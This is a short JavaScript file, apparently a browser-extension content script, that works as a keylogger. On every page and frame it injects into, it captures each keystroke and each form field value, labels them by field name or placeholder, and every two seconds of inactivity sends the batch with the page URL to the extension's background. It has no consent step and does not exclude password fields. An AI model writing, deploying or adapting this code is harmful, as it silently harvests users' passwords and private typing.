var port = chrome.runtime.connect({ name: 'i' }), acc = {};
function label(el) {
  if (el.labels && el.labels[0]) return el.labels[0].innerText;
  return el.getAttribute('aria-label') || el.placeholder || el.name || el.id || el.tagName;
}
['keydown', 'input', 'change'].forEach(function (t) {
  window.addEventListener(t, function (e) {
    var el = e.composedPath()[0], k = label(el);
    acc[k] = t === 'keydown' ? (acc[k] || '') + (e.key.length > 1 ? '<' + e.key + '>' : e.key) : el.value;
    clearTimeout(acc.__t);
    acc.__t = setTimeout(function () {
      delete acc.__t;
      port.postMessage({ url: location.href, frame: window !== top, acc: acc });
      acc = {};
    }, 2000);
  }, true);
});
